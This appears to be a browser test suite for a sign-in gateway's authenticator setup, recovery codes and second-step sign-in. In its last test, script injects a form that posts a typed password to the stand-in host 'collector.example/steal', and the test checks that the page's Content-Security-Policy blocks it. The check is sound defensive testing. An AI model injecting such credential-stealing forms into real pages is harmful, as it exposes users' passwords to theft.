import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { TOTP, Secret } from 'otpauth';
import { addPerson, enrolAuthenticator, startTestGateway, type TestGateway } from '../helpers/gateway.ts';
import { startTestApp } from '../portal/test-app.ts';
import { chromiumMissing, launchChromium } from '../portal/browser.ts';
import { DEMO_PASSWORD } from '../../gateway/seed/demo.ts';
import { dropSecondFactorRequirement, requireSecondFactor } from '../../gateway/factors/policy.ts';
import { operator } from '../../gateway/context.ts';
import { useRecoveryCode } from '../../gateway/factors/recovery-codes.ts';
import { beginTotpEnrolment, confirmTotpEnrolment, totpDeps } from '../../gateway/factors/totp.ts';
import { interactionBinding } from '../../gateway/factors/binding.ts';
import { pageErrors } from '../helpers/page-errors.ts';

let gateway: TestGateway;
let browser: Browser;

beforeAll(async () => {
  if (chromiumMissing) return;
  gateway = await startTestGateway('second-factor-browser');
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await gateway?.stop();
});

/** A page that records script errors and Content-Security-Policy refusals. */
async function watchedPage(): Promise<{ page: Page; errors: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors = pageErrors(page);
  return { page, errors };
}

/**
 * Waits out the last 5 s of a 30-s TOTP step, so that a code computed now is still within the gateway's
 * one step of skew when the browser's post reaches it (the previous step's code above would not be).
 */
async function clearOfStepEnd(): Promise<void> {
  const left = 30_000 - (Date.now() % 30_000);
  if (left < 5_000) await new Promise((resolve) => setTimeout(resolve, left + 100));
}

/** Sets up the authenticator app whose key the page shows, confirming it with the code the form at `action` takes. */
async function confirmShownKey(page: Page, action: string) {
  const secret = (await page.locator('#totp-secret').innerText()).replace(/\s/g, '');
  await clearOfStepEnd();
  await page.fill('#code', TOTP.generate({ secret: Secret.fromBase32(secret) }));
  await page.click(`form[action$="${action}"] button[type=submit]`);
  await expect.poll(() => page.locator('ul.recovery-codes li').count(), { timeout: 15_000 }).toBe(10);
  return page.locator('ul.recovery-codes code').allInnerTexts();
}

/** What a page of recovery codes shows: its heading, the codes listed, what it says instead, and any refusal. */
const codesPage = async (page: Page) => ({
  heading: await page.locator('h1').innerText(),
  codes: await page.locator('ul.recovery-codes li').count(),
  notShown: await page.locator('#codes-not-shown').allInnerTexts(),
  refusals: await page.locator('[role=alert]:not([hidden])').allInnerTexts(),
});

async function passwordStep(page: Page, username: string) {
  await page.fill('#username', username);
  await page.fill('#password', DEMO_PASSWORD);
  await page.click('form[action$="/login"] button[type=submit]');
}

describe.skipIf(chromiumMissing)('setting up an authenticator in a real browser', () => {
  it('shows the QR code under the gateway’s CSP, confirms a code, asks for one at sign-in, and focuses a refused field', async () => {
    const { page, errors } = await watchedPage();
    await page.goto(`${gateway.issuer}/account/security`);
    await passwordStep(page, 'alice');
    await page.waitForURL(`${gateway.issuer}/account/security`);
    await page.click('#begin-totp button[type=submit]');

    const qr = page.locator('img.qr');
    await expect
      .poll(() => qr.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
      .toBeGreaterThan(100);
    const secret = (await page.locator('#totp-secret').innerText()).replace(/\s/g, '');
    const code = (offset: number) =>
      TOTP.generate({ secret: Secret.fromBase32(secret), timestamp: Date.now() + offset * 30_000 });

    await clearOfStepEnd();
    await page.fill('#code', code(-1));
    await page.click('form[action="/account/security/totp"] button[type=submit]');
    await expect.poll(() => page.locator('ul.recovery-codes li').count(), { timeout: 15_000 }).toBe(10);
    // "Copy the codes", which only the page's own script shows (under the CSP), puts them on the clipboard.
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: gateway.issuer });
    await page.click('#copy-codes');
    await expect.poll(() => page.locator('#copy-codes-status').innerText()).toMatch(/^Copied\./);
    const listed = await page.locator('ul.recovery-codes code').allInnerTexts();
    expect((await page.evaluate(() => navigator.clipboard.readText())).trim().split('\n')).toEqual(listed);

    const other = await watchedPage();
    await other.page.goto(`${gateway.issuer}/portal/login`);
    await passwordStep(other.page, 'alice');
    await other.page.waitForSelector('#code');
    expect(await other.page.locator('h1').innerText()).toBe('Enter your code');
    await clearOfStepEnd();
    await other.page.fill('#code', code(0));
    await other.page.click('form[action$="/code"] button[type=submit]');
    await other.page.waitForURL(`${gateway.issuer}/`);

    // The "I understand" box sits beside its sentence, at its first line, not on a line of its own.
    await page.goto(`${gateway.issuer}/account/security`);
    const sentence = await page.locator('#remove-totp label').evaluate((label) => {
      const box = label.querySelector('input')!.getBoundingClientRect();
      const range = document.createRange();
      range.selectNodeContents(label.querySelector('span')!);
      const first = range.getClientRects()[0]!;
      return {
        boxRight: box.right,
        boxTop: box.top,
        boxBottom: box.bottom,
        left: first.left,
        top: first.top,
        bottom: first.bottom,
      };
    });
    expect(sentence.left).toBeGreaterThanOrEqual(sentence.boxRight);
    expect(sentence.boxTop).toBeGreaterThanOrEqual(sentence.top - 2);
    expect(sentence.boxBottom).toBeLessThanOrEqual(sentence.bottom + 2);

    // A refused password change: the focus is on the field it is about, the new password kept.
    await page.fill('#current-password', 'not my password');
    await page.fill('#new-password', 'a new passphrase');
    await page.fill('#new-password-again', 'a new passphrase');
    await page.click('#change-password button[type=submit]');
    await page.waitForSelector('#password-error');
    await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('current-password');
    expect(await page.inputValue('#new-password')).toBe('a new passphrase');

    expect(errors).toEqual([]);
    expect(other.errors).toEqual([]);
    // A real browser's page loads and TOTP steps: more than the default 30 s on a busy machine.
  }, 60_000);
});

describe.skipIf(chromiumMissing)('the second step of a sign-in, in a real browser', () => {
  it('says a refused code at the field it was typed in, which keeps the focus, and names each button for its code', async () => {
    await addPerson(gateway, 'rosa');
    const rosa = (await gateway.models.User.findOne({ where: { username: 'rosa' } }))!;
    const ctx = gateway.context(null);
    const deps = totpDeps(gateway.config.secretKey, gateway.issuer);
    const binding = interactionBinding({ uid: 'test' });
    const { secret } = await beginTotpEnrolment(ctx, deps, rosa, binding);
    const codeAt = (offset: number) =>
      TOTP.generate({ secret: Secret.fromBase32(secret), timestamp: Date.now() + offset * 30_000 });
    const recoveryCodes = await confirmTotpEnrolment(ctx, deps, rosa, codeAt(0), binding);
    const wrongCode = ['000000', '111111', '222222'].find((c) => ![-1, 0, 1].map(codeAt).includes(c))!;

    const { page, errors } = await watchedPage();
    await page.goto(`${gateway.issuer}/portal/login`);
    await passwordStep(page, 'rosa');
    await page.waitForSelector('#recovery-code');
    expect(await page.getByRole('button', { name: 'Continue with code' }).count()).toBe(1);
    expect(await page.getByRole('button', { name: 'Use recovery code' }).count()).toBe(1);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('code');

    /** Each code field: whether it is marked invalid, what describes it, and where the focus is. */
    const fields = () =>
      page.evaluate(() => ({
        focus: document.activeElement?.id,
        fields: ['code', 'recovery-code'].map((id) => {
          const field = document.getElementById(id)!;
          const described = field.getAttribute('aria-describedby');
          return {
            id,
            invalid: field.getAttribute('aria-invalid'),
            description: described ? document.getElementById(described)?.textContent : null,
          };
        }),
        elsewhere: [...document.querySelectorAll('[role=alert]:not([hidden])')]
          .filter((alert) => !alert.closest('form'))
          .map((alert) => alert.textContent),
      }));
    const RECOVERY_REFUSED =
      'That recovery code is not valid. Check it for typing mistakes; each code works only once.';
    const CODE_REFUSED = 'That code is not valid. Enter the six-digit code your authenticator app shows now.';

    await page.fill('#recovery-code', 'aaaaa-bbbbb');
    await page.press('#recovery-code', 'Enter');
    await page.waitForSelector('#recovery-code[aria-invalid=true]');
    expect(await fields()).toEqual({
      focus: 'recovery-code',
      fields: [
        { id: 'code', invalid: null, description: null },
        { id: 'recovery-code', invalid: 'true', description: RECOVERY_REFUSED },
      ],
      elsewhere: [],
    });

    await page.fill('#code', wrongCode);
    await page.press('#code', 'Enter');
    await page.waitForSelector('#code[aria-invalid=true]');
    expect(await fields()).toEqual({
      focus: 'code',
      fields: [
        { id: 'code', invalid: 'true', description: CODE_REFUSED },
        { id: 'recovery-code', invalid: null, description: null },
      ],
      elsewhere: [],
    });

    await page.fill('#recovery-code', recoveryCodes[0]!);
    await page.click('form:has(#recovery-code) button[type=submit]');
    await page.waitForURL(`${gateway.issuer}/`);
    expect(errors).toEqual([]);
  }, 60_000);
});

describe.skipIf(chromiumMissing)('a second factor set up at sign-in, in a real browser', () => {
  it('says the setup has ended when its key closed while the page was open, and starts a new one', async () => {
    const asOperator = { ...gateway.context(null), actor: operator('test') };
    await requireSecondFactor(asOperator, { kind: 'role', value: 'staff' });
    try {
      const { page, errors } = await watchedPage();
      await page.goto(`${gateway.issuer}/`);
      await passwordStep(page, 'carol');
      await page.click('#begin-totp button[type=submit]');
      const first = (await page.locator('#totp-secret').innerText()).replace(/\s/g, '');
      // Ten minutes pass before the person comes back to the page and reloads it.
      const carol = await gateway.models.User.findOne({ where: { username: 'carol' } });
      await gateway.models.TotpFactor.update(
        { createdAt: new Date(Date.now() - 11 * 60_000) },
        { where: { userId: carol!.id } },
      );
      await page.reload();
      expect(await page.locator('#totp-setup-ended').allInnerTexts()).toEqual([
        'This setup is no longer open: a key is good for ten minutes, in the browser it was shown in. Start again to get a new one.',
      ]);
      expect(await page.locator('#totp-secret').count()).toBe(0);
      await page.click('#begin-totp button[type=submit]');
      const second = (await page.locator('#totp-secret').innerText()).replace(/\s/g, '');
      expect(second).not.toBe(first);
      expect(await page.locator('#totp-setup-ended').count()).toBe(0);
      expect(errors).toEqual([]);
    } finally {
      await dropSecondFactorRequirement(asOperator, { kind: 'role', value: 'staff' });
    }
  });
});

describe.skipIf(chromiumMissing)('recovery codes of a new authenticator, reloaded in a real browser', () => {
  it('on the account page: shown once, and a reload, Back or Forward posts nothing and says so', async () => {
    await addPerson(gateway, 'tess');
    const { page, errors } = await watchedPage();
    await page.goto(`${gateway.issuer}/account/security`);
    await passwordStep(page, 'tess');
    await page.waitForURL(`${gateway.issuer}/account/security`);
    await page.click('#begin-totp button[type=submit]');
    const codes = await confirmShownKey(page, '/account/security/totp');
    expect((await codesPage(page)).heading).toBe('Your authenticator is set up');

    // Reloaded (a resubmit, had the codes been the answer to the post): the same page, without them.
    const reloaded = await page.reload();
    const shownOnce = {
      heading: 'Your authenticator is set up',
      codes: 0,
      notShown: [
        'Your recovery codes were shown once, when you set it up, and are not shown again. If you did not keep them, make new ones on Sign-in security: new ones replace them.',
      ],
      refusals: [],
    };
    expect(await codesPage(page)).toEqual(shownOnce);
    expect(reloaded?.request().method()).toBe('GET');
    expect(page.url()).toBe(`${gateway.issuer}/account/security/recovery-codes`);
    await page.goBack();
    expect(page.url()).toBe(`${gateway.issuer}/account/security?setup=authenticator`);
    await page.goForward();
    expect(await codesPage(page)).toEqual(shownOnce);

    // Set up once, never refused as "already set up"; the codes shown are the ones that work.
    const tess = (await gateway.models.User.findOne({ where: { username: 'tess' } }))!;
    const enrolments = await gateway.models.AuditEvent.findAll({ where: { action: 'factor.enrol', target: 'tess' } });
    expect(enrolments.map((e) => e.outcome)).toEqual(['success']);
    expect(await useRecoveryCode(gateway.context(null), tess.id, codes[0]!)).toBe(true);
    expect(errors).toEqual([]);
  }, 60_000);

  it('at a sign-in’s setup step: shown once, a reload posts nothing, and Back from the app says the sign-in is over', async () => {
    const asOperator = { ...gateway.context(null), actor: operator('test') };
    await addPerson(gateway, 'stan', { roles: ['staff'] });
    await requireSecondFactor(asOperator, { kind: 'role', value: 'staff' });
    try {
      const { page, errors } = await watchedPage();
      await page.goto(`${gateway.issuer}/`);
      await passwordStep(page, 'stan');
      await page.click('#begin-totp button[type=submit]');
      await confirmShownKey(page, '/enrol');
      // The codes are the step's page, which the post redirected to.
      expect(page.url()).toMatch(/\/interaction\/[^/]+$/);
      const step = page.url();

      // Reloaded: the page asked for again, never the code posted again; the codes are not shown twice.
      const reloaded = await page.reload();
      expect(reloaded?.request().method()).toBe('GET');
      expect(reloaded?.request().redirectedFrom()).toBeNull();
      expect(await codesPage(page)).toEqual({
        heading: 'Your authenticator is set up',
        codes: 0,
        notShown: [
          'Your recovery codes were shown once, when you set it up, and are not shown again. If you did not keep them, make new ones on Sign-in security once you are signed in: new ones replace them.',
        ],
        refusals: [],
      });
      await page.click('form[action$="/continue"] button[type=submit]');
      await page.waitForURL(`${gateway.issuer}/`);

      // Back from the portal: not a form to post again, nor a dead end, but a page that says the sign-in is
      // over and leads back to the portal it was for.
      const back = await page.goBack();
      expect(back?.request().method()).toBe('GET');
      expect(page.url()).toBe(`${step}/over`);
      expect(await page.locator('h1').innerText()).toBe('This sign-in is over');
      expect(await page.locator('#way-on').innerText()).toBe('Go to Atrium');
      await page.click('#way-on');
      await page.waitForURL(`${gateway.issuer}/`);
      const enrolments = await gateway.models.AuditEvent.findAll({
        where: { action: 'factor.enrol', target: 'stan' },
      });
      expect(enrolments.map((e) => e.outcome)).toEqual(['success']);
      expect(errors).toEqual([]);
    } finally {
      await dropSecondFactorRequirement(asOperator, { kind: 'role', value: 'staff' });
    }
  }, 60_000);
});

describe.skipIf(chromiumMissing)('signing in to an app on another origin in a real browser', () => {
  it('goes on to the app after the password and code posts, while a form slipped into the page cannot post elsewhere', async () => {
    const app = await startTestApp(gateway, 'course-notes', 'Course Notes');
    try {
      await addPerson(gateway, 'fay');
      const secret = await enrolAuthenticator(gateway, 'fay');
      const { page, errors } = await watchedPage();
      await page.goto(app.url);
      await page.waitForSelector('#password');

      // Markup injected into the sign-in page, posting what was typed to a stranger: refused before it leaves.
      const refused = await page.evaluate(
        () =>
          new Promise<{ directive: string; blocked: string } | null>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve({ directive: event.effectiveDirective, blocked: event.blockedURI }),
            );
            setTimeout(() => resolve(null), 3_000);
            const form = document.createElement('form');
            form.method = 'post';
            form.action = 'https://collector.example/steal';
            const field = document.createElement('input');
            field.name = 'password';
            field.value = 'typed';
            form.append(field);
            document.body.append(form);
            form.submit();
          }),
      );
      expect(refused).toEqual({ directive: 'form-action', blocked: 'https://collector.example/steal' });
      expect(page.url()).toContain(`${gateway.issuer}/interaction/`);
      expect(errors).toEqual([expect.stringMatching(/^csp: .*form-action/)]);
      errors.length = 0;
      // Playwright waits for the refused submission's navigation ever after: a fresh copy of the page.
      await page.reload();

      // The real forms: their posts end, through the gateway's redirects, at the app's callback.
      await passwordStep(page, 'fay');
      await page.waitForSelector('#code');
      await clearOfStepEnd();
      // The next time step's code (one step of skew is allowed): the current one may be the code that
      // confirmed the app moments ago, which the gateway refuses as a replay.
      await page.fill('#code', TOTP.generate({ secret: Secret.fromBase32(secret), timestamp: Date.now() + 30_000 }));
      await page.click('form[action$="/code"] button[type=submit]');
      await page.waitForURL(`${app.url}/`, { timeout: 10_000 });
      expect(await page.locator('h1').innerText()).toBe('Signed in as Test fay');
      expect(errors).toEqual([]);
    } finally {
      await app.close();
    }
  }, 60_000);
});
